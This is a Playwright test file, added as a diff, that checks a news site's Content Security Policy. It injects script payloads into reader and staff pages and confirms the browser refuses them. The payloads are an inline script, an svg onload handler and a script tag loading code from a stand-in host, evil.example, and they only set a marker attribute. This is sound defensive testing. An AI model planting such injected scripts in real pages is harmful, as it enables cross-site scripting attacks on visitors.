@@ -1,0 +1,77 @@
+import type { Page } from '@playwright/test'
+
+import { type DemoPerson, expect, test } from '../fixtures'
+
+// A page runs its own scripts and no other: what somebody smuggles into its HTML is refused by the browser.
+
+/** Kinds of pages and the status of each. Those without React ('plain') run nothing at all. */
+const READER_PAGES: [path: string, status?: number, kind?: 'plain'][] = [
+  ['/'], ['/politics'], ['/archive'], ['/archive/2026/10'], ['/search'], ['/search?q=cocoa'], ['/newsletter/unsubscribe'],
+  ['/auth'], ['/auth?mode=sign-up'], ['/auth/reset-password'], ['/auth/confirm'], ['/admin'],
+  ['/about'], ['/advertise'], ['/careers'], ['/contact'], ['/newsletter'], ['/privacy'], ['/rss'], ['/sitemap'], ['/terms'],
+  ['/_global-error'], ['/no-such-page', 404], ['/story/no-such-story', 404, 'plain'], ['/archive/2026/13', 404, 'plain'],
+  ['/lite', 200, 'plain'], ['/lite/politics', 200, 'plain'], ['/lite/no-such-section', 404, 'plain'], ['/offline', 200, 'plain'],
+]
+const STAFF_PAGES: [DemoPerson, string[]][] = [
+  ['admin', [
+    '/admin/stories', '/admin/articles', '/admin/articles/new', '/admin/drafts', '/admin/sources', '/admin/whatsapp', '/admin/advertisements',
+    '/admin/advertisements/new', '/admin/users', '/admin/users/activity', '/admin/banners', '/admin/messages', '/admin/messages/subscribers',
+  ]],
+  ['chief', ['/chief-author', '/chief-author?tab=drafts', '/chief-author/new']],
+  ['anchor', ['/news-anchor', '/news-anchor/new']],
+]
+
+const mark = (how: string) => `document.documentElement.dataset.smuggled = "${how}"`
+/** At the top of a page; at its end the inline script comes again. */
+const SMUGGLED = `<script>${mark('script')}</script><svg hidden onload='${mark('handler')}'></svg><script src="https://evil.example/a.js"></script>`
+const REFUSED = 4
+
+/** Sends documents on with scripts in them that nobody meant to be there, and all their headers. */
+async function smuggle(page: Page): Promise<void> {
+  await page.route('**/*', async (route) => {
+    if (route.request().resourceType() !== 'document') return route.fallback()
+    const response = await route.fetch({ maxRedirects: 0 })
+    const html = await response.text()
+    const body = html.replace(/<body[^>]*>/, (tag) => tag + SMUGGLED).replace('</body>', `<script>${mark('late script')}</script></body>`)
+    await route.fulfill({ response, body })
+  })
+}
+
+/** React writes its own properties on what it has taken over. */
+const isHydrated = () =>
+  [...document.querySelectorAll('body *')].some((element) => Object.keys(element).some((key) => key.startsWith('__reactFiber')))
+
+type Check = (path: string, status?: number, kind?: 'plain') => Promise<void>
+
+/** A browser whose documents are tampered with from now on, and what has to be true of each. */
+async function tamper(page: Page): Promise<Check> {
+  const refused: string[] = []
+  page.on('console', (message) => {
+    if (/Content Security Policy/i.test(message.text())) refused.push(message.text())
+  })
+  await smuggle(page)
+  return async (path, status = 200, kind) => {
+    refused.length = 0
+    const response = await page.goto(path, { waitUntil: 'load' })
+    expect(response?.status(), path).toBe(status)
+    expect(/script-src ([^;]*)/.exec(response?.headers()['content-security-policy'] ?? '')?.[1] ?? '', path).not.toContain('unsafe')
+    if (kind !== 'plain') await page.waitForFunction(isHydrated)
+    expect(await page.evaluate(() => document.documentElement.dataset.smuggled), path).toBeUndefined()
+    expect(refused, path).toHaveLength(REFUSED)
+  }
+}
+
+test("a script smuggled into a reader's page is refused, and nothing else is: the page works", async ({ browser, baseURL, newestStory }) => {
+  // A service worker would fetch documents past the route that smuggles.
+  const context = await browser.newContext({ baseURL: baseURL!, serviceWorkers: 'block' })
+  const check = await tamper(await context.newPage())
+  for (const [path, status, kind] of [[await newestStory()] as const, ...READER_PAGES]) await check(path, status, kind)
+  await context.close()
+})
+
+for (const [person, paths] of STAFF_PAGES) {
+  test(`a script smuggled into a page of ${person} is refused, and nothing else is: the page works`, async ({ pageOf }) => {
+    const check = await tamper(await pageOf(person))
+    for (const path of paths) await check(path)
+  })
+}
